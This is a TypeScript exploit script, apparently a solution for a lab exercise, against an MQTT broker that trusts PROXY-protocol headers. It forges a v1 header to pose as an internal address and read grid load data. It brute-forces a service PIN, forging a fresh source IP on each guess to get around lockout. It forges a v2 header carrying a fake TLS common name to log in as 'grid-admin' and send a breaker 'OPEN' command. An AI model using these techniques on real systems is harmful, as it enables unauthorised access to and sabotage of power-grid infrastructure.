// A1: the rules ask for an address of 10.0.0.0/8, and the address is what the header says.
const raw = await lab.raw({ listener: 'edge' });
raw.send(bytes('PROXY TCP4 10.0.0.5 10.0.0.1 40000 1883\r\n'));
raw.send(connect({ clientId: 'customer', userName: 'customer', password: lab.given['customer'] ?? '' }));
lab.log('CONNACK', await raw.next());
raw.send(subscribe('grid/+/load'));
lab.log('SUBACK', await raw.next());
lab.log('and a load:', asText((await raw.next(8_000)) ?? ''));
raw.close();

// A2: five failures are free, for each address. Here is another one for every guess.
for (let pin = 0; pin < 100; pin += 1) {
  const guess = String(pin).padStart(2, '0');
  const attempt = await lab.raw({ listener: 'edge' });
  attempt.send(bytes(`PROXY TCP4 198.51.100.${pin + 1} 10.0.0.1 40000 1883\r\n`));
  attempt.send(connect({ clientId: 'laptop', userName: 'service', password: guess }));
  const connack = await attempt.next();
  attempt.close();
  if (connack !== '20020000') continue;
  lab.log('The technicians’ PIN is', guess);
  break;
}

// A3: version 2 is binary, and may carry what TLS found out: type 20, in it the common name, type 22.
const name = [...bytes('grid-admin')];
const certified = [0x20, 0, 8 + name.length, 0x07, 0, 0, 0, 0, 0x22, 0, name.length, ...name];
const addresses = [203, 0, 113, 10, 10, 0, 0, 1, 0x9c, 0x40, 0x07, 0x5b];
const signature = [0x0d, 0x0a, 0x0d, 0x0a, 0x00, 0x0d, 0x0a, 0x51, 0x55, 0x49, 0x54, 0x0a];
const length = addresses.length + certified.length;
const admin = await lab.raw({ listener: 'edge' });
admin.send(Uint8Array.from([...signature, 0x21, 0x11, 0, length, ...addresses, ...certified]));
admin.send(connect({ clientId: 'grid-admin' }));
lab.log('CONNACK', await admin.next());
const order = [...text('grid/breaker-1/cmd'), 0, 1, ...bytes('OPEN')];
admin.send(packet(0x32, order));
lab.log('PUBACK', await admin.next());
admin.close();

function connect({ clientId, userName, password = '' }: { clientId: string; userName?: string; password?: string }) {
  const flags = userName === undefined ? 0x02 : 0xc2;
  const credentials = userName === undefined ? [] : [...text(userName), ...text(password)];
  return packet(0x10, [...text('MQTT'), 4, flags, 0, 60, ...text(clientId), ...credentials]);
}

function subscribe(topicFilter: string) {
  return packet(0x82, [0, 1, ...text(topicFilter), 0]);
}

function packet(firstByte: number, body: number[]) {
  return Uint8Array.from([firstByte, body.length, ...body]);
}

function text(value: string) {
  return [0, value.length, ...bytes(value)];
}

function bytes(value: string) {
  return new TextEncoder().encode(value);
}

function asText(hex: string) {
  return (hex.match(/../g) ?? []).map((pair) => String.fromCharCode(Number.parseInt(pair, 16))).join('');
}
